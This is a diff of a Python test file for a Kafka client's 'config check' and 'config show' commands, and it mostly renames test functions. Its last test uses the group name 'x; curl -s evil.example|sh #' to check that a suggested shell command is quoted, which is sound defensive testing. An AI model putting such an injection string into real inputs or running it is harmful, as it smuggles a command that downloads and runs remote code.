@@ -75,7 +75,7 @@ def listening(serve: Callable[[socket.socket], None] | None = None) -> Iterator[
             each.close()
 
 
-def test_all_is_well(run_cli: Run, serve: Callable[..., Any]) -> None:
+def test_config_check_healthy_cluster_passes_every_step(run_cli: Run, serve: Callable[..., Any]) -> None:
     served = serve(world=shop)
     code, rows, err = check(run_cli, served.bootstrap)
     assert (code, err) == (0, "")
@@ -84,7 +84,7 @@ def test_all_is_well(run_cli: Run, serve: Callable[..., Any]) -> None:
     assert results(rows, "cluster") == [("rights", "ok"), ("groups", "ok"), ("describe", "ok")]
 
 
-def test_brokers_elsewhere_are_tried_where_they_advertise_themselves(run_cli: Run, serve: Callable[..., Any]) -> None:
+def test_config_check_tries_advertised_addresses(run_cli: Run, serve: Callable[..., Any]) -> None:
     served = serve(world=shop)
     first, second = served.fake.brokers.values()
     code, rows, _ = check(run_cli, f"127.0.0.1:{first.port}")
@@ -92,7 +92,7 @@ def test_brokers_elsewhere_are_tried_where_they_advertise_themselves(run_cli: Ru
     assert results(rows, f"broker 1 (127.0.0.1:{second.port})") == [(step, "ok") for step in WAY]
 
 
-def test_an_advertised_address_that_cannot_be_reached_is_a_sentence_of_its_own(
+def test_config_check_unreachable_advertised_address_has_its_own_message(
     run_cli: Run, serve: Callable[..., Any]
 ) -> None:
     served = serve(world=shop)
@@ -107,7 +107,7 @@ def test_an_advertised_address_that_cannot_be_reached_is_a_sentence_of_its_own(
     assert "advertised.listeners on broker 1" in err
 
 
-def test_a_closed_port(run_cli: Run) -> None:
+def test_config_check_closed_port_fails_tcp(run_cli: Run) -> None:
     port = _free_port()
     code, rows, err = check(run_cli, f"127.0.0.1:{port}")
     assert code == 1
@@ -122,7 +122,7 @@ def test_a_closed_port(run_cli: Run) -> None:
     assert results(rows, "cluster") == [("rights", "not tried")]
 
 
-def test_a_name_that_does_not_resolve(run_cli: Run, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_config_check_unresolvable_host_fails_dns(run_cli: Run, monkeypatch: pytest.MonkeyPatch) -> None:
     def unknown(*_: object, **__: object) -> None:
         raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
 
@@ -133,7 +133,7 @@ def test_a_name_that_does_not_resolve(run_cli: Run, monkeypatch: pytest.MonkeyPa
     assert "'no-such-broker.invalid'" in failed(rows)["fix"]
 
 
-def test_a_port_that_is_no_kafka(run_cli: Run) -> None:
+def test_config_check_http_server_fails_api_versions(run_cli: Run) -> None:
     class Quiet(BaseHTTPRequestHandler):
         def log_message(self, *_: object) -> None:
             pass
@@ -149,7 +149,7 @@ def test_a_port_that_is_no_kafka(run_cli: Run) -> None:
     assert failed(rows)["fix"]
 
 
-def test_a_port_that_speaks_http_is_named(run_cli: Run) -> None:
+def test_config_check_http_response_is_named(run_cli: Run) -> None:
     with listening(lambda peer: peer.sendall(b"HTTP/1.1 400 Bad Request\r\n\r\n")) as port:
         code, rows, _ = check(run_cli, f"127.0.0.1:{port}")
     assert code == 1
@@ -160,9 +160,7 @@ def test_a_port_that_speaks_http_is_named(run_cli: Run) -> None:
     assert failed(rows)["fix"] == f"port {port} belongs to another service: use the port of a Kafka listener"
 
 
-def test_a_port_that_hangs_costs_the_brokers_time_out_and_the_others_are_tried(
-    run_cli: Run, serve: Callable[..., Any]
-) -> None:
+def test_config_check_hung_port_costs_one_timeout_and_others_are_tried(run_cli: Run, serve: Callable[..., Any]) -> None:
     served = serve(1, world=shop)
     with listening() as port:
         code, rows, _ = check(run_cli, f"127.0.0.1:{port},{served.bootstrap}", "--broker-timeout", "1500ms")
@@ -173,7 +171,7 @@ def test_a_port_that_hangs_costs_the_brokers_time_out_and_the_others_are_tried(
     assert results(rows, "cluster")[0] == ("rights", "ok")
 
 
-def test_few_rights_are_a_warning_with_the_words_for_kafkas_own_tool(run_cli: Run, serve: Callable[..., Any]) -> None:
+def test_config_check_missing_permission_is_a_warning_with_acl_command(run_cli: Run, serve: Callable[..., Any]) -> None:
     served = serve(world=shop)
     served.world.operations = 0
     code, rows, _ = check(run_cli, served.bootstrap)
@@ -183,7 +181,7 @@ def test_few_rights_are_a_warning_with_the_words_for_kafkas_own_tool(run_cli: Ru
     assert row["fix"].endswith("--operation Describe --cluster")
 
 
-def test_a_broker_that_answers_no_metadata(run_cli: Run, serve: Callable[..., Any]) -> None:
+def test_config_check_broker_without_metadata_fails_that_step(run_cli: Run, serve: Callable[..., Any]) -> None:
     served = serve(1, world=shop)
     served.fake.brokers[0].fault("Metadata", silence)
     code, rows, _ = check(run_cli, served.bootstrap, "--broker-timeout", "1500ms")
@@ -284,7 +282,7 @@ def knocked(run_cli: Run, port: int, folder: Path, authority: Path) -> tuple[int
         ),
     ],
 )
-def test_the_chain_that_was_not_believed_is_shown(
+def test_config_check_shows_the_untrusted_chain(
     run_cli: Run,
     certificates: Certificates,
     tmp_path: Path,
@@ -308,7 +306,7 @@ def test_the_chain_that_was_not_believed_is_shown(
     assert (peer.agreed, peer.heard) == (1, b"")
 
 
-def test_a_chain_that_is_not_shown_twice_is_not_spoken_of(
+def test_config_check_omits_chain_that_is_not_presented_again(
     run_cli: Run, certificates: Certificates, tmp_path: Path
 ) -> None:
     made = certificates.made
@@ -322,7 +320,7 @@ def test_a_chain_that_is_not_shown_twice_is_not_spoken_of(
     assert (peer.agreed, peer.heard) == (0, b"")
 
 
-def test_show_masks_what_is_secret_and_says_where_it_was_given(run_cli: Run, tmp_path: Any) -> None:
+def test_config_show_masks_secrets_and_names_the_origin(run_cli: Run, tmp_path: Any) -> None:
     file = tmp_path / "client.properties"
     file.write_text(
         "bootstrap.servers=b:1\nsecurity.protocol=SASL_PLAINTEXT\nsasl.mechanism=PLAIN\n"
@@ -339,7 +337,7 @@ def test_show_masks_what_is_secret_and_says_where_it_was_given(run_cli: Run, tmp
     assert rows["security.protocol"]["origin"].endswith("client.properties, line 2")
 
 
-def test_a_configuration_that_cannot_be_is_2(run_cli: Run) -> None:
+def test_config_check_invalid_configuration_exits_2(run_cli: Run) -> None:
     code, out, err = run_cli("config", "check", "-b", "b:1", "-X", "security.protocol=SLL")
     assert (code, out) == (2, "")
     assert "security.protocol" in err
@@ -352,7 +350,7 @@ def _free_port() -> int:
         return port
 
 
-def test_a_suggested_command_is_quoted() -> None:
+def test_config_check_suggested_command_is_quoted() -> None:
     """A group's name is anybody's, and the command is for an administrator's shell."""
     evil = "x; curl -s evil.example|sh #"
     acl = Acl("DESCRIBE", "GROUP", evil)
